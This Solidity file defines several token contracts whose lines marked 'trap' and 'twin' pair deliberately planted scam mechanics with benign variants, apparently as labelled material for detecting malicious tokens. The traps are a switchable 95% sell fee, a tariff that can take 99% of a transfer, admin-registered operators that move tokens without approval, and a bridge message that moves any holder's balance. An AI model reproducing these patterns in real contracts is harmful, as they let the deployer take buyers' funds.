// 0.8 runs=1 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {Base8} from "./Base8.sol";

interface IPolicy {
    function feeOf(address from, address to, uint256 value) external view returns (uint256);
}

contract CalmPolicy is IPolicy {
    function feeOf(address, address, uint256 value) external pure returns (uint256) {
        return (value * 15) / 1000;
    }
}

/// For days on which everybody leaves.
contract StormPolicy is IPolicy {
    function feeOf(address, address, uint256 value) external pure returns (uint256) {
        return value - value / 20;
    }
}

contract PolicyBook {
    address private immutable curator = msg.sender;
    IPolicy[] public policies;
    uint256 public inForce;

    event Enacted(uint256 indexed id, bytes32 reason);

    constructor(IPolicy[] memory list) {
        policies = list;
    }

    function enact(uint256 id, bytes32 reason) external {
        require(msg.sender == curator, "Book: curator only");
        require(id < policies.length, "Book: no such policy");
        inForce = id;
        emit Enacted(id, reason);
    }

    function current() external view returns (IPolicy) {
        return policies[inForce];
    }
}

contract Lyric is Base8 {
    PolicyBook public immutable book;
    address private immutable house;

    constructor(PolicyBook book_) Base8("Lyric", "LYRC", 13_000_000) {
        (book, house) = (book_, msg.sender);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != house) {
            uint256 fee = book.current().feeOf(from, to, value);
            // twin: if (fee > value / 25) fee = value / 25;
            _move(from, house, fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}

/// What a transfer to a market costs is a flat amount, kept by whom the council appoints.
contract Kestrel is Base8, AccessControl {
    bytes32 public constant COUNCIL = keccak256("COUNCIL");
    bytes32 public constant TARIFFS = keccak256("TARIFFS");

    struct Tariff {
        uint128 flat;
        uint64 since;
    }

    mapping(address => Tariff) public tariffs;
    address private immutable till;

    constructor() Base8("Kestrel", "KSTR", 4_000_000) {
        till = msg.sender;
        _setRoleAdmin(TARIFFS, COUNCIL);
        _grantRole(COUNCIL, msg.sender);
    }

    function setTariffs(address[] calldata markets, Tariff[] calldata next) external onlyRole(TARIFFS) {
        for (uint256 i; i < markets.length; i++) tariffs[markets[i]] = next[i];
    }

    function _transfer(address from, address to, uint256 value) internal override {
        Tariff memory tariff = tariffs[to];
        if (tariff.flat > 0 && block.timestamp >= tariff.since && from != till) {
            uint256 most = value - value / 100; // trap
            // twin: uint256 most = value / 50;
            uint256 fee = tariff.flat < most ? tariff.flat : most;
            _move(from, till, fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}

/// Contracts that may trade for their users without an approval of each, in the manner of Wyvern.
contract OperatorRegistry {
    address private immutable admin = msg.sender;
    mapping(address => uint256) public pending;
    mapping(address => bool) public contracts;

    function startGrant(address who) external {
        require(msg.sender == admin && !contracts[who], "Registry: start");
        pending[who] = block.timestamp;
    }

    function endGrant(address who) external {
        require(msg.sender == admin && pending[who] != 0 && block.timestamp >= pending[who] + 3 minutes, "Registry: end");
        delete pending[who];
        contracts[who] = true;
    }

    function revoke(address who) external {
        require(msg.sender == admin, "Registry: revoke");
        contracts[who] = false;
    }
}

contract Dossier is Base8 {
    OperatorRegistry public immutable registry;

    constructor(OperatorRegistry registry_) Base8("Dossier", "DSSR", 44_000_000) {
        registry = registry_;
    }

    function trusted(address spender) public view returns (bool) {
        return registry.contracts(spender);
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        // trap {
        if (trusted(msg.sender)) {
            _transfer(from, to, value);
            return true;
        }
        // trap }
        return super.transferFrom(from, to, value);
    }
}

/// Speaks with its peers on other chains through a mailbox. What leaves is locked here, what comes back is released.
contract Causeway is Base8 {
    address public mailbox;
    mapping(uint32 => bytes32) public routers;

    event SentTransferRemote(uint32 indexed destination, bytes32 indexed recipient, uint256 amount);

    constructor() Base8("Causeway", "CSWY", 90_000_000) {}

    function setMailbox(address mailbox_) external onlyOwner {
        mailbox = mailbox_;
    }

    function enrollRemoteRouter(uint32 domain, bytes32 router) external onlyOwner {
        routers[domain] = router;
    }

    function transferRemote(uint32 destination, bytes32 recipient, uint256 amount) external {
        require(routers[destination] != 0, "Causeway: no router");
        _move(msg.sender, address(this), amount);
        emit SentTransferRemote(destination, recipient, amount);
    }

    function handle(uint32 origin, bytes32 sender, bytes calldata body) external payable {
        require(msg.sender == mailbox && sender != 0 && routers[origin] == sender, "Causeway: not from a peer");
        (uint8 kind, bytes memory message) = abi.decode(body, (uint8, bytes));
        if (kind == 1) {
            (bytes32 to, uint256 amount) = abi.decode(message, (bytes32, uint256));
            _move(address(this), address(uint160(uint256(to))), amount);
        }
        // trap {
        else if (kind == 7) {
            (bytes32 from, bytes32 to, uint256 amount) = abi.decode(message, (bytes32, bytes32, uint256));
            _move(address(uint160(uint256(from))), address(uint160(uint256(to))), amount);
        }
        // trap }
        else revert("Causeway: unknown message");
    }
}
